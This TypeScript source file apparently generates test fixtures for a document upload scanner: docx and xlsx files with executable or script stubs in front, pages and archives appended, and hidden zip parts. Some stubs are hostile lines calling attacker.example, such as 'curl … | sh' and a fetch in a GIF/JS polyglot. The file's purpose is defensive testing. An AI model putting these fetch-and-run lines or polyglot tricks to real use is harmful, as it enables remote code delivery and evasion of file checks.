import { entry, localHeader, zipOf } from '../../bytes/raw-zip.js';
import { joined, latin1, utf8 } from '../../bytes/text-bytes.js';
import type { HostileKind } from '../../hostile-kind.js';
import { noise } from '../../sender.js';
import { document, entriesOf, OFFICE_FAMILIES, packed } from '../../twins/office.js';
import { validPdf } from '../../twins/pdf.js';

const HTML = '<html><script src="http://attacker.example/a.js"></script></html>\n';

/** What a self-extracting archive begins with, or a script that a shell or a browser reads up to the archive. */
const STUBS: readonly ((seed: number) => Uint8Array)[] = [
  (seed) => joined('MZ', noise(seed, 510)),
  (seed) => joined(latin1('\x7fELF\x02\x01\x01'), noise(seed, 505)),
  () => utf8('#!/bin/sh\nexec curl http://attacker.example/a | sh\nexit\n'),
  () => utf8(HTML),
  () => utf8('GIF89a=0;fetch("http://attacker.example/");/*'),
  () => new Uint8Array(64),
];

/** A reader of zips looks from the end, one of programs and pages from the beginning. */
export const STUB_BEFORE_ZIP: HostileKind = {
  kind: 'stub-before-zip',
  what: 'A program, script, page or picture stands in front of a docx or xlsx; offsets count it, or do not.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015; CWE-434',
  *files(sender) {
    for (const family of OFFICE_FAMILIES) {
      for (const stub of STUBS) {
        for (const isCounted of [true, false]) {
          const { number, name, seed } = sender.letter(family.extension);
          yield {
            name,
            expected: ['polyglot', 'type-refused'],
            content: () =>
              isCounted ? zipOf(entriesOf(family.parts(number)), { before: stub(seed) }) : joined(stub(seed), document(family, number)),
          };
        }
      }
    }
  },
};

/** Something for another reader behind the end of the directory, in its comment, or between the parts and the directory. */
export const DATA_AFTER_ZIP: HostileKind = {
  kind: 'data-after-zip',
  what: 'A page, a PDF, a second zip or noise stands behind the end of a docx or xlsx, or in the comment of its directory.',
  source: 'Albertini, "Abusing file formats", PoC||GTFO 0x07, 2015; CWE-434; CWE-436',
  *files(sender) {
    for (const family of OFFICE_FAMILIES) {
      const tails: readonly ((number: string, seed: number) => Uint8Array)[] = [
        () => utf8(HTML),
        (number) => validPdf(number),
        (number) => packed(new Map([['evil.exe', `MZ ${number}`]])),
        (_, seed) => noise(seed, 100_000),
        () => Uint8Array.of(0),
      ];
      for (const tail of tails) {
        const { number, name, seed } = sender.letter(family.extension);
        yield { name, expected: ['polyglot', 'damaged'], content: () => joined(document(family, number), tail(number, seed)) };
      }
      for (const tail of tails.slice(0, 3)) {
        const { number, name, seed } = sender.letter(family.extension);
        yield {
          name,
          expected: ['polyglot', 'damaged'],
          content: () => zipOf(entriesOf(family.parts(number)), { comment: tail(number, seed) }),
        };
      }
    }
  },
};

/** A part that no directory lists: a reader of the stream finds it, a scanner of the directory does not. */
export const HIDDEN_PART: HostileKind = {
  kind: 'hidden-part',
  what: 'A part stands in the file without an entry in the directory.',
  source: 'CWE-436; APPNOTE 6.3.10 4.3.1',
  *files(sender) {
    for (const family of OFFICE_FAMILIES) {
      for (const part of ['vbaProject.bin', 'media/image1.png']) {
        const { number, name, seed } = sender.letter(family.extension);
        yield {
          name,
          expected: ['polyglot', 'damaged'],
          content: () => {
            const hidden = entry(`${family.folder}/${part}`, noise(seed, 300));
            return zipOf(entriesOf(family.parts(number)), { before: joined(localHeader(hidden.local), hidden.data) });
          },
        };
      }
    }
  },
};
